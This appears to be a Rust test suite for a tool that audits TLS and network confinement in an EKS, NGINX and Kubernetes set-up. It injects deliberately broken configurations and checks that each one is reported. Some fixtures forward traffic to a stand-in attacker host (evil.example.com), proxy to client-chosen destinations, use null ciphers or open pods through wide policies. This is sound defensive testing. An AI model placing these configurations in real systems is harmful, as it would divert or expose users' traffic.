//! Set-ups that are broken on purpose: what is wrong shows in the facet that it belongs to.
//!
//! This file is long because nearly all of it is one table, a row for each set-up.

use serde_json::json;

use super::set_up::{BALANCER, NGINX, SetUp, app, ingress, object, pod, policy, service, shown, whole};
use crate::Scope;
use crate::aws::{Answer, Listener, TargetGroup};
use crate::objects::{Leading, Pod};

type Row = (&'static str, fn(&mut SetUp), &'static [&'static str]);

const TO_EDGE: &str = "client→edge yun encrypted";
const TO_PROXY: &str = "edge→proxy ynu encrypted";
const TO_APP: &str = "proxy→app nny confined";
const OPEN: &str = "proxy→app nnn plaintext";

/// An address by hand, for a Service that selects Pods.
fn foreign(service: &str) -> k8s_openapi::api::discovery::v1::EndpointSlice {
    object(
        json!({"metadata": {"namespace": "shop", "name": "foreign", "labels": {"kubernetes.io/service-name": service}},
        "addressType": "IPv4", "endpoints": [{"addresses": ["192.0.2.1"]}], "ports": [{"port": 8080}]}),
    )
}

/// In front of the proxy.
const IN_FRONT: &[Row] = &[
    (
        "the target group speaks HTTP",
        |it| it.balancer().groups.get_mut("tg").expect("tg").protocol = "HTTP".to_owned(),
        &[TO_EDGE, "edge→proxy nnu unknown", TO_APP],
    ),
    (
        "one of two target groups speaks HTTP",
        |it| {
            let old = TargetGroup {
                protocol: "HTTP".to_owned(),
                targets: vec![("10.0.1.1".to_owned(), 8443, "healthy".to_owned())],
            };
            it.balancer().groups.insert("old".to_owned(), old);
            it.balancer().listeners[0].rules[0].1.push("old".to_owned());
        },
        &[TO_EDGE, "edge→proxy nnu unknown", TO_APP],
    ),
    (
        "port 80 serves the application, too",
        |it| it.balancer().listeners[1].rules = vec![(vec!["shop.example.com".to_owned()], vec!["tg".to_owned()])],
        &[TO_EDGE, TO_PROXY, TO_APP, "client→edge nun plaintext", TO_PROXY, TO_APP],
    ),
    (
        "port 80 forwards by default",
        |it| {
            it.balancer().listeners[1].redirects = false;
            it.balancer().listeners[1].groups = vec!["tg".to_owned()];
        },
        &[TO_EDGE, TO_PROXY, TO_APP, "client→edge nun plaintext", TO_PROXY, TO_APP],
    ),
    (
        "the listener leads elsewhere",
        |it| {
            it.balancer().groups.get_mut("tg").expect("tg").targets =
                vec![("10.9.9.9".to_owned(), 8443, "healthy".to_owned())]
        },
        &["client→edge uuu unknown"],
    ),
    (
        "the target group leads to another port of the Pods",
        |it| it.balancer().groups.get_mut("tg").expect("tg").targets[0].1 = 9090,
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "the load balancer is gone",
        |it| drop(it.balancers.insert(BALANCER.to_owned(), Answer::Absent)),
        &["client→edge uuu unknown"],
    ),
    (
        "the load balancer goes through Nodes",
        |it| {
            it.objects.services[0]
                .spec
                .as_mut()
                .expect("spec")
                .ports
                .as_mut()
                .expect("ports")[0]
                .node_port = Some(30443);
            it.balancer().groups.get_mut("tg").expect("tg").targets =
                vec![("i-0abc".to_owned(), 30443, "healthy".to_owned())];
        },
        &[TO_EDGE, "edge→proxy ynn encrypted", TO_APP],
    ),
    (
        "a Network Load Balancer passes on what clients send",
        |it| {
            let group = it.balancer().groups.get_mut("tg").expect("tg");
            group.protocol = "TCP".to_owned();
            it.balancer().listeners = vec![Listener {
                port: 443,
                protocol: "TCP".to_owned(),
                groups: vec!["tg".to_owned()],
                ..Listener::default()
            }];
        },
        &["client→proxy yuu encrypted", TO_APP],
    ),
    (
        "a Network Load Balancer passes on to others, too",
        |it| {
            let group = it.balancer().groups.get_mut("tg").expect("tg");
            group.protocol = "TCP".to_owned();
            group.targets.push(("10.9.9.9".to_owned(), 8443, "healthy".to_owned()));
            it.balancer().listeners = vec![Listener {
                port: 443,
                protocol: "TCP".to_owned(),
                groups: vec!["tg".to_owned()],
                ..Listener::default()
            }];
        },
        &["client→proxy uuu unknown", TO_APP],
    ),
    (
        "a Network Load Balancer passes on to NGINX without TLS",
        |it| {
            it.nginx(&NGINX.replace(" ssl", ""));
            it.balancer().listeners = vec![Listener {
                port: 443,
                protocol: "TCP".to_owned(),
                groups: vec!["tg".to_owned()],
                ..Listener::default()
            }];
        },
        &["client→proxy nuu unknown", TO_APP],
    ),
    (
        "the Ingress leads straight to the application",
        |it| {
            it.objects.ingresses[0] = ingress("shop", None, "shop-upstream", 80);
            let group = it.balancer().groups.get_mut("tg").expect("tg");
            group.protocol = "HTTP".to_owned();
            group.targets = vec![("10.0.1.3".to_owned(), 8080, "healthy".to_owned())];
        },
        &[TO_EDGE, "edge→app nnn plaintext"],
    ),
    (
        "the Service of the Ingress is gone",
        |it| drop(it.objects.services.remove(0)),
        &["client→edge uuu unknown"],
    ),
    (
        "nothing runs behind the Service",
        |it| it.objects.pods.retain(|pod| !pod.name.starts_with("shop-proxy")),
        &["client→edge uuu unknown"],
    ),
];

/// Between the proxy and the application.
const BEHIND: &[Row] = &[
    (
        "policies are not enforced",
        |it| it.vpc_cni = Some([].into()),
        &[TO_EDGE, "edge→proxy ynn encrypted", OPEN],
    ),
    (
        "whether policies are enforced is not known",
        |it| it.vpc_cni = None,
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "no policy selects the application",
        |it| drop(it.objects.policies.remove(0)),
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "the policy selects nothing",
        |it| it.objects.policies[0] = policy("shop-app", &json!({"app": "shopp"}), &json!([])),
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "another policy opens what the first one closes",
        |it| it.objects.policies.push(policy("wide", &json!({}), &json!([{}]))),
        &[TO_EDGE, "edge→proxy ynn encrypted", OPEN],
    ),
    (
        "another policy admits a Pod that is there",
        |it| {
            it.objects
                .pods
                .push(Pod::from(object::<k8s_openapi::api::core::v1::Pod>(pod(
                    "debug",
                    &json!({"run": "debug"}),
                    "10.0.1.9",
                    80,
                ))));
            let from = json!([{"from": [{"podSelector": {"matchLabels": {"run": "debug"}}}]}]);
            it.objects
                .policies
                .push(policy("debug", &json!({"app": "shop"}), &from));
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "another policy admits addresses",
        |it| {
            let from = json!([{"from": [{"ipBlock": {"cidr": "10.7.0.0/16"}}]}]);
            it.objects.policies.push(policy("vpn", &json!({"app": "shop"}), &from));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "another policy admits the addresses of Nodes",
        |it| {
            let from = json!([{"from": [{"ipBlock": {"cidr": "10.0.200.0/24"}}]}]);
            it.objects
                .policies
                .push(policy("nodes", &json!({"app": "shop"}), &from));
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "the load balancer's networks hold Pods",
        |it| {
            let from = json!([{"from": [{"ipBlock": {"cidr": "10.0.0.0/16"}}]}]);
            it.objects.policies[1] = policy("shop-proxy", &json!({"e2etls.dev/proxy": "shop"}), &from);
        },
        &[TO_EDGE, "edge→proxy ynn encrypted", TO_APP],
    ),
    (
        "the proxy admits every address",
        |it| {
            let from = json!([{"from": [{"ipBlock": {"cidr": "0.0.0.0/1"}}, {"ipBlock": {"cidr": "128.0.0.0/1"}}]}]);
            it.objects.policies[1] = policy("shop-proxy", &json!({"e2etls.dev/proxy": "shop"}), &from);
        },
        &[TO_EDGE, "edge→proxy ynn encrypted", TO_APP],
    ),
    (
        "a NodePort leads to the application",
        |it| {
            let spec = json!({"type": "NodePort", "selector": {"app": "shop"}, "ports": [{"port": 80, "targetPort": 8080, "nodePort": 30080}]});
            it.objects.services.push(service("debug", &spec));
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "a NodePort leads to another port of the application",
        |it| {
            let spec = json!({"type": "NodePort", "selector": {"app": "shop"}, "ports": [{"port": 81, "targetPort": 9090, "nodePort": 30081}]});
            it.objects.services.push(service("metrics", &spec));
        },
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "external addresses lead to the application",
        |it| {
            let spec = json!({"selector": {"app": "shop"}, "externalIPs": ["10.0.200.1"], "ports": [{"port": 80, "targetPort": "web"}]});
            it.objects.services.push(service("external", &spec));
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "a port of the Node leads to the application",
        |it| {
            it.pods("shop-a")
                .for_each(|pod| pod.containers[0].ports[0].host = Some(8080))
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "the application uses the network of its Node",
        |it| it.pods("shop-a").for_each(|pod| pod.host_network = true),
        &[TO_EDGE, "edge→proxy ynn encrypted", OPEN],
    ),
    (
        "a Pod beside the application uses the network of the Node",
        |it| {
            let mut agent = app("agent", "10.0.200.1");
            agent.labels.clear();
            agent.host_network = true;
            it.objects.pods.push(agent);
        },
        &[TO_EDGE, "edge→proxy ynn encrypted", OPEN],
    ),
    (
        "a Pod of the application has no controller",
        |it| it.pods("shop-b").for_each(|pod| pod.owner = None),
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "a Pod of the application runs on Fargate",
        |it| {
            let mut node = it.objects.nodes[0].clone();
            node.name = "fargate".to_owned();
            node.labels
                .insert("eks.amazonaws.com/compute-type".to_owned(), "fargate".to_owned());
            it.objects.nodes.push(node);
            it.pods("shop-b").for_each(|pod| pod.node = "fargate".to_owned());
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "the proxy verifies the application",
        |it| {
            it.nginx(&NGINX.replace(
                "proxy_pass http://app",
                "proxy_ssl_verify on; proxy_ssl_trusted_certificate ca.pem; proxy_pass https://app",
            ));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app yyy authenticated"],
    ),
    (
        "the proxy speaks TLS to the application, and verifies nothing",
        |it| it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass https://app")),
        &[TO_EDGE, TO_PROXY, "proxy→app yny encrypted"],
    ),
    (
        "the proxy's configuration was changed after it started",
        |it| {
            it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass https://app"));
            it.objects.configurations[0].written = "2026-11-03T00:00:00Z".parse().ok();
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", "proxy→app uuy confined"],
    ),
    (
        "a snippet forwards a path elsewhere",
        |it| {
            it.nginx(&NGINX.replace(
                "location / { proxy_pass",
                "location /x { proxy_pass http://evil.example.com; } location / { proxy_pass",
            ));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown", TO_APP],
    ),
    (
        "a snippet forwards to what a variable says",
        |it| it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass http://$http_x_where")),
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "the configuration includes what was not read",
        |it| {
            it.nginx(&NGINX.replace(
                "server { listen 8443 ssl;",
                "server { include /etc/nginx/more.conf; listen 8443 ssl;",
            ))
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", TO_APP],
    ),
    (
        "the configuration can't be read",
        |it| it.nginx("http { server { listen 8443 ssl"),
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "the application is in the same Pod",
        |it| {
            it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass http://127.0.0.1:8080"));
        },
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "the application is in the same Pod, and a policy opens its port",
        |it| {
            it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass http://127.0.0.1:8080"));
            let from = json!([{"from": [{"podSelector": {}}], "ports": [{"port": 8080}]}]);
            it.objects
                .policies
                .push(policy("wide", &json!({"e2etls.dev/proxy": "shop"}), &from));
        },
        &[TO_EDGE, TO_PROXY, OPEN],
    ),
    (
        "another server of the same NGINX passes on",
        |it| {
            it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass http://127.0.0.1:9000").replace(
                "server { listen 8443 ssl default_server;",
                "server { listen 127.0.0.1:9000; location / { proxy_pass http://evil.example.com; } } server { listen 8443 ssl default_server;",
            ));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "another server of the same NGINX passes on, behind a socket",
        |it| {
            it.nginx(&NGINX.replace("proxy_pass http://app", "proxy_pass http://unix:/tmp/s:").replace(
                "server { listen 8443 ssl default_server;",
                "server { listen unix:/tmp/s; location / { proxy_pass http://evil.example.com; } } server { listen 8443 ssl default_server;",
            ));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown", TO_APP],
    ),
    (
        "a configuration lies where NGINX does not read it",
        |it| {
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].mounts[0].1 = "/decoy".to_owned())
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "a command reads another configuration",
        |it| {
            let command = ["nginx", "-c", "/other/nginx.conf"].map(str::to_owned);
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].command = command.to_vec());
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "a hook runs when the proxy starts",
        |it| {
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].post_start = true)
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "another container may listen on the proxy's port",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                let mut other = pod.containers[0].clone();
                (other.name, other.image) = ("other".to_owned(), "other:1".to_owned());
                other.mounts.clear();
                pod.containers.insert(0, other);
            });
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "something else is mounted over the configuration",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                let mounts = &mut pod.containers[0].mounts;
                mounts.push(("scratch".to_owned(), "/etc/nginx/nginx.conf".to_owned()));
            });
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "an image of somebody has its own nginx.conf",
        |it| {
            it.fragment();
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].image = "registry.example.com:5000/nginx:1".to_owned());
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "the image of NGINX's makers has its own nginx.conf",
        |it| {
            it.fragment();
            let image = "public.ecr.aws/nginx/nginx:1.29@sha256:0";
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].image = image.to_owned());
        },
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "the proxy started again before the kubelet had written what was changed",
        |it| {
            it.objects.configurations[0].written = "2026-11-01T23:58:00Z".parse().ok();
            it.pods("shop-proxy")
                .for_each(|pod| pod.created = "2026-11-01T23:57:00Z".parse().ok());
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", "proxy→app uuy confined"],
    ),
    (
        "something else is mounted where NGINX reads files",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                let mounts = &mut pod.containers[0].mounts;
                mounts.push(("more".to_owned(), "/etc/nginx/conf.d".to_owned()));
            });
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "a configuration lies below the folder of NGINX",
        |it| {
            it.pods("shop-proxy")
                .for_each(|pod| pod.containers[0].mounts[0].1 = "/etc/nginx/sites-enabled".to_owned())
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "plain HTTP is answered on the port for TLS",
        |it| {
            it.nginx(&NGINX.replace(
                "server { listen 8443 ssl;",
                "server { error_page 497 = @app; listen 8443 ssl;",
            ))
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", TO_APP],
    ),
    (
        "the Service of the application leads out of the cluster",
        |it| {
            let spec = it.objects.services[1].spec.as_mut().expect("spec");
            spec.type_ = Some("ExternalName".to_owned());
            spec.external_name = Some("legacy.example.com".to_owned());
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "a Service of other clusters has the same name",
        |it| it.nginx(&NGINX.replace("svc.cluster.local", "svc.clusterset.local")),
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "the proxy is a new Pod since the change",
        |it| {
            it.objects.configurations[0].written = "2026-11-01T23:58:00Z".parse().ok();
            it.pods("shop-proxy")
                .for_each(|pod| pod.created = "2026-11-01T23:59:00Z".parse().ok());
        },
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "somebody adds an address to the Service of the application",
        |it| it.objects.slices.push(foreign("shop-upstream")),
        &[TO_EDGE, TO_PROXY, "proxy→proxy nnn plaintext", "proxy→app uuu unknown"],
    ),
    (
        "somebody adds an address to the Service of the proxy",
        |it| it.objects.slices.push(foreign("shop-proxy")),
        &[TO_EDGE, "edge→proxy ynn encrypted", "proxy→app uuu unknown", TO_APP],
    ),
    (
        "the name that is verified is the client's to say",
        |it| {
            it.nginx(&NGINX.replace(
                "proxy_pass http://app",
                "proxy_ssl_verify on; proxy_ssl_trusted_certificate ca.pem; proxy_ssl_name $http_x; proxy_pass https://app",
            ));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app yny encrypted"],
    ),
    (
        "ciphers do not encrypt",
        |it| {
            it.nginx(&NGINX.replace(
                "server { listen 8443 ssl;",
                "server { ssl_ciphers HIGH:eNULL; listen 8443 ssl;",
            ))
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", TO_APP],
    ),
    (
        "a range of ports is listened on",
        |it| {
            it.nginx(&NGINX.replace(
                "http { upstream",
                "http { server { listen 10.0.1.1:8000-9000; } upstream",
            ))
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", TO_APP],
    ),
    (
        "a command names the configuration",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                pod.containers[0].mounts[0].1 = "/config".to_owned();
                pod.containers[0].command = vec!["nginx".to_owned(), "-c".to_owned(), "/config/nginx.conf".to_owned()];
            });
        },
        &[TO_EDGE, TO_PROXY, TO_APP],
    ),
    (
        "Endpoints without a selector lead out of the cluster",
        |it| {
            it.objects.services[1].spec.as_mut().expect("spec").selector = None;
            it.objects
                .slices
                .push(object(json!({"metadata": {"namespace": "shop", "name": "s",
                "labels": {"kubernetes.io/service-name": "shop-upstream"}}, "addressType": "IPv4",
                "endpoints": [{"addresses": ["192.0.2.1"]}], "ports": [{"port": 8080}]})));
        },
        &[TO_EDGE, TO_PROXY, "proxy→app nnu unknown"],
    ),
    (
        "one of two Pods runs something else",
        |it| it.pods("shop-proxy-b").for_each(|pod| pod.config_maps.clear()),
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown", TO_APP],
    ),
    (
        "the proxy is one whose configuration is not mounted",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                pod.config_maps.clear();
                pod.containers[0].image = "docker.io/envoyproxy/envoy:v1.36".to_owned();
            });
        },
        &[TO_EDGE, TO_PROXY, "proxy→app uuu unknown"],
    ),
    (
        "something unknown takes TLS itself",
        |it| {
            it.pods("shop-proxy").for_each(|pod| {
                pod.config_maps.clear();
                pod.containers[0].image = "frontend:1".to_owned();
            });
        },
        &[TO_EDGE, "edge→app ynu encrypted"],
    ),
];

#[test]
fn what_is_broken_shows() {
    let mut wrong = Vec::new();
    for (what, breaks, expected) in IN_FRONT.iter().chain(BEHIND) {
        let mut set_up = whole();
        breaks(&mut set_up);
        let report = set_up.report(&Scope::All);
        let found = shown(&report);
        if found != *expected {
            wrong.push(format!("{what}:\n  expected {expected:?}\n  found    {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Nobody is there today, and whoever creates a Pod there gets in.
#[test]
fn pods_that_come_later_are_an_exception() {
    let mut set_up = whole();
    let later = |set_up: &SetUp| {
        let report = set_up.report(&Scope::All);
        let hop = report.chains[0].hops.last().expect("a hop").clone();
        assert_eq!(hop.confined, crate::facet::Facet::Yes, "{hop:?}");
        hop.except.iter().any(|except| except.contains("created later"))
    };
    assert!(!later(&set_up));
    let from = json!([{"from": [{"namespaceSelector": {}, "podSelector": {"matchLabels": {"app": "debug"}}}]}]);
    set_up
        .objects
        .policies
        .push(policy("debug", &json!({"app": "shop"}), &from));
    assert!(later(&set_up));
}

/// Otherwise an answer about nothing would pass for one about something.
#[test]
fn what_does_not_exist_is_not_found() {
    let named = |name: &str| ("shop".to_owned(), name.to_owned());
    let service = |name| Scope::Service(named(name).0, named(name).1);
    let ingress = |name| Scope::Ingress(named(name).0, named(name).1);
    let mut set_up = whole();
    for (scope, found) in [
        (Scope::All, true),
        (Scope::Namespace("other".to_owned()), true),
        (Scope::Namespace("nowhere".to_owned()), false),
        (Scope::Hostname("shop.example.com".to_owned()), true),
        (Scope::Hostname("shop.example.org".to_owned()), false),
        (service("shop-proxy"), true),
        (service("shop-prox"), false),
        (ingress("shop"), true),
        (ingress("shopp"), false),
    ] {
        assert_eq!(set_up.report(&scope).found, found, "{scope:?}");
    }
    // What was not listed may be there.
    set_up.objects.unread = ["namespaces", "ingresses", "services"].map(str::to_owned).to_vec();
    for scope in [
        Scope::Namespace("nowhere".to_owned()),
        service("shop-prox"),
        ingress("shopp"),
    ] {
        assert!(set_up.report(&scope).found, "{scope:?}");
    }
}

/// What is covered, and has no way in that is followed.
#[test]
fn a_gateway_alone_is_said_not_to_be_followed() {
    let mut set_up = whole();
    set_up.objects.ingresses.clear();
    set_up.objects.others.push(Leading {
        object: "HTTPRoute shop/y".to_owned(),
        service: ("shop".to_owned(), "shop-proxy".to_owned()),
    });
    let line = "HTTPRoute shop/y leads to Service shop/shop-proxy, and was not followed";
    for (scope, found) in [
        (Scope::All, true),
        (Scope::Namespace("shop".to_owned()), true),
        (Scope::Service("shop".to_owned(), "shop-proxy".to_owned()), true),
        (Scope::Namespace("other".to_owned()), false),
    ] {
        let findings = set_up.report(&scope).findings;
        assert_eq!(
            findings.iter().any(|finding| finding == line),
            found,
            "{scope:?}: {findings:?}"
        );
    }
}

/// Around the port that is served with TLS.
#[test]
fn another_port_without_tls_is_found() {
    let mut set_up = whole();
    set_up.nginx(&NGINX.replace(
        "server { listen 8443 ssl default_server;",
        "server { listen 127.0.0.1:9000; location / { proxy_pass http://app; } } server { listen 8080; location / { proxy_pass http://app; } }
         server { listen 9090; return 200; } server { listen 8443 ssl default_server;",
    ));
    let report = set_up.report(&Scope::All);
    assert_eq!(
        report.findings,
        [
            "NGINX with ConfigMap shop/shop-proxy-config also accepts requests without TLS on port 8080, and forwards them"
        ]
    );
}

/// Ways that the scope does not cover.
#[test]
fn other_ways_are_found() {
    let mut set_up = whole();
    let spec = json!({"type": "NodePort", "selector": {"app": "shop"}, "ports": [{"port": 80, "targetPort": 8080, "nodePort": 30080}]});
    set_up.objects.services.push(service("debug", &spec));
    set_up
        .objects
        .ingresses
        .push(ingress("debug", Some("debug.example.com"), "shop-upstream", 80));
    for (object, name) in [
        ("TargetGroupBinding shop/x", "shop-upstream"),
        ("HTTPRoute shop/y", "shop-proxy"),
    ] {
        set_up.objects.others.push(Leading {
            object: object.to_owned(),
            service: ("shop".to_owned(), name.to_owned()),
        });
    }
    let report = set_up.report(&Scope::Hostname("shop.example.com".to_owned()));
    assert_eq!(
        report.findings,
        [
            "HTTPRoute shop/y leads to Service shop/shop-proxy, and was not followed",
            "Ingress shop/debug also leads to Pods of the application",
            "Service shop/debug opens port 30080 of every Node to Pods of the application",
            "TargetGroupBinding shop/x leads to Service shop/shop-upstream, and was not followed",
        ]
    );
}
